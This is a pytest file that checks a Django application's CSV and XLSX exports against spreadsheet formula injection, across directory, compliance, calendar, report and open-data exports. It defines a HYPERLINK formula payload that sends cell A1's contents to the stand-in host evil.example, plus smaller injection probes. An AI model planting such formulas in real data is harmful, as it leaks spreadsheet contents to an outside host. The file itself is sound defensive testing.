"""Formula injection: free text that a spreadsheet would evaluate goes out as text in every CSV and XLSX."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from focal_points import exports as fp_exports
from programmes.events import services as event_services
from programmes.events.models import CalendarBundle
from programmes.spreadsheets import csv_writer, safe_cell, workbook_bytes
from tests.factories import EventFactory, ExecutiveStructureFactory, ParticipatingStateFactory, ThematicAreaFactory
from tests.focal_points.factories import FocalPointFactory, MembershipFactory, NetworkFactory

MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_text_a_spreadsheet_would_evaluate_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [12, -3, 4.5, Decimal("-1.50"), date(2010, 1, 1), None, True, "plain", "a=b", ""])
def test_numbers_dates_and_ordinary_text_are_unchanged(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_csv_writer_neutralises_text_and_keeps_numbers():
    buffer = io.StringIO()
    csv_writer(buffer).writerow([MALICIOUS, -5, "ok"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + MALICIOUS, "-5", "ok"]


def test_workbook_bytes_never_writes_a_formula():
    workbook = Workbook()
    workbook.active.append([MALICIOUS, "-x", 7])
    assert workbook.active["A1"].data_type == "f"  # what openpyxl would have written without the helper
    cells = load_workbook(io.BytesIO(workbook_bytes(workbook))).active[1]
    assert [c.value for c in cells] == ["'" + MALICIOUS, "'-x", 7]
    assert [c.data_type for c in cells] == ["s", "s", "n"]


def _formula_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [
        c.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")))
    ]


@pytest.mark.django_db
def test_focal_point_contact_csv_neutralises_a_name(client_as, coordinator):
    FocalPointFactory(first_name=MALICIOUS, last_name="-Smith")
    body = b"".join(client_as(coordinator).get(reverse("focal_points:directory_csv")).streaming_content)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + MALICIOUS and rows[1][1] == "'-Smith"


@pytest.mark.django_db
def test_coverage_and_vacancy_exports_neutralise_a_network_name(client_as, coordinator):
    network = NetworkFactory(name="@evil network")
    MembershipFactory(network=network, focal_point=FocalPointFactory(state=ParticipatingStateFactory()))
    ParticipatingStateFactory(name="=Vacant state")
    client = client_as(coordinator)
    coverage_csv = client.get(reverse("focal_points:coverage_csv")).content.decode().lstrip("\ufeff")
    assert "'@evil network" in coverage_csv.splitlines()[0].split(",")
    assert "'=Vacant state" in coverage_csv
    assert _formula_cells(client.get(reverse("focal_points:coverage_xlsx")).content) == []
    vacancies_csv = client.get(reverse("focal_points:vacancies_csv")).content.decode()
    assert "'@evil network,'=Vacant state" in vacancies_csv
    assert _formula_cells(client.get(reverse("focal_points:vacancies_xlsx")).content) == []
    assert _formula_cells(fp_exports.vacancies_xlsx([])) == []


@pytest.mark.django_db
def test_compliance_exports_neutralise_a_structure_name(client_as, coordinator):
    from tests.programmes.activity.factories import ReportingObligationFactory

    structure = ExecutiveStructureFactory(acronym="+S", name=MALICIOUS)
    ReportingObligationFactory(structure=structure, starts_on=date(2010, 1, 1))
    client = client_as(coordinator)
    rows = list(
        csv.reader(
            io.StringIO(
                client.get(reverse("activity:compliance_export", args=["csv"]), {"year": "2010"}).content.decode()
            )
        )
    )
    assert ["'+S", "'" + MALICIOUS] in [r[:2] for r in rows]
    content = client.get(reverse("activity:compliance_export", args=["xlsx"]), {"year": "2010"}).content
    assert _formula_cells(content) == []
    assert "'" + MALICIOUS in [c.value for c in load_workbook(io.BytesIO(content)).active["B"]]


@pytest.mark.django_db
def test_calendar_bundle_workbook_neutralises_an_event_title(coordinator, django_capture_on_commit_callbacks):
    EventFactory(title=MALICIOUS, start_date=date(2010, 5, 10), thematic_areas=[ThematicAreaFactory()])
    with django_capture_on_commit_callbacks(execute=True):
        bundle = event_services.calendar_bundle_request(first_month=date(2010, 5, 1), actor=coordinator)
    bundle.refresh_from_db()
    assert bundle.status == CalendarBundle.Status.DONE, bundle.error
    content = bundle.xlsx.read()
    assert _formula_cells(content) == []
    titles = [row[2] for row in load_workbook(io.BytesIO(content))["Events"].iter_rows(min_row=2, values_only=True)]
    assert titles == ["'" + MALICIOUS]


@pytest.mark.django_db
def test_generated_report_workbook_and_csv_neutralise_the_title(coordinator, django_capture_on_commit_callbacks):
    from osce_tnt.reporting import services as report_services
    from osce_tnt.reporting.models import GeneratedReport

    with django_capture_on_commit_callbacks(execute=True):
        report = report_services.report_request(
            actor=coordinator, period_start=date(2010, 1, 1), period_end=date(2010, 3, 31), title=MALICIOUS
        )
    report.refresh_from_db()
    assert report.status == GeneratedReport.Status.DONE, report.error
    with report.xlsx_file.open("rb") as handle:
        content = handle.read()
    assert _formula_cells(content) == []
    assert load_workbook(io.BytesIO(content)).worksheets[0]["A1"].value == "'" + MALICIOUS
    with report.csv_file.open("rb") as handle:
        rows = list(csv.reader(io.StringIO(handle.read().decode("utf-8-sig"))))
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)


@pytest.mark.django_db
def test_open_data_3w_csvs_neutralise_a_project_and_an_event_title(client_as, coordinator):
    from tests.factories import ProjectFactory

    ProjectFactory(title=MALICIOUS)
    EventFactory(title="-2+3 event", start_date=date(2010, 5, 10))
    client = client_as(coordinator)

    projects = client.get(reverse("results:projects_3w_csv")).content.decode("utf-8-sig")
    events = client.get(reverse("results:events_3w_csv")).content.decode("utf-8-sig")

    project_cells = {cell for row in csv.reader(io.StringIO(projects)) for cell in row}
    event_cells = {cell for row in csv.reader(io.StringIO(events)) for cell in row}
    assert "'" + MALICIOUS in project_cells and MALICIOUS not in project_cells
    assert "'-2+3 event" in event_cells and "-2+3 event" not in event_cells


def test_no_module_writes_csv_except_through_the_one_neutralising_writer():
    """A new export cannot bypass ``programmes.spreadsheets``: only that module may call ``csv.writer`` itself."""
    import ast
    from pathlib import Path

    from django.conf import settings

    root = Path(settings.BASE_DIR)
    direct = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in (".venv", "tests", "bench", "scripts") or str(relative) == "programmes/spreadsheets.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in ("writer", "DictWriter")
            ):
                direct.append(f"{relative}:{node.lineno}")
    assert direct == []
